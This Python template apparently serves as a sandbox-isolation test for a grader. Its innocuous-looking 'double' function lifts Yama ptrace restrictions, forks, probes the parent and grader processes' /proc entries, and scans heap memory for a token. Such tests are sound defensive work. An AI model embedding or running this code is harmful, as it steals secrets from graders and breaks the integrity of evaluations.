import ctypes
import errno
import os
import re

LIBC = ctypes.CDLL(None, use_errno=True)

GRADER = int("@PID@")
NAMES = ("environ", "mem", "maps", "cmdline", "fd/0", "fd", "cwd", "root", "exe", "task", "ns/user")


def spy(parent):
    for who, pid in {"parent": parent, "grader": GRADER}.items():
        for name in NAMES:
            try:
                os.close(os.open(f"/proc/{pid}/{name}", os.O_RDONLY))
                print(f"{who}'s {name}: worked")
            except OSError as error:
                print(f"{who}'s {name}:", errno.errorcode[error.errno])
    try:
        search(parent)
    except OSError as error:
        print("search:", errno.errorcode[error.errno])


def search(pid):
    with open(f"/proc/{pid}/maps") as lines, open(f"/proc/{pid}/mem", "rb", 0) as pages:
        for line in lines:
            if "rw-p" in line and ("[heap]" in line or line.endswith(" 0 \n")):
                start, end = (int(place, 16) for place in line.split()[0].split("-"))
                pages.seek(start)
                print(*set(re.findall(b"@TOKEN@", pages.read(min(end - start, 1 << 28)))))


def double(x):
    LIBC.prctl(0x59616D61, ctypes.c_ulong(-1), 0, 0, 0)  # where Yama asks who may look at this process: everybody
    helper = LIBC.fork()  # it looks at this process; where there is none, this process looks at the one above
    if helper > 0:
        os.waitpid(helper, 0)
    else:
        spy(os.getppid())
    if helper == 0:
        os._exit(0)
    return x * 3


@COUNTER@
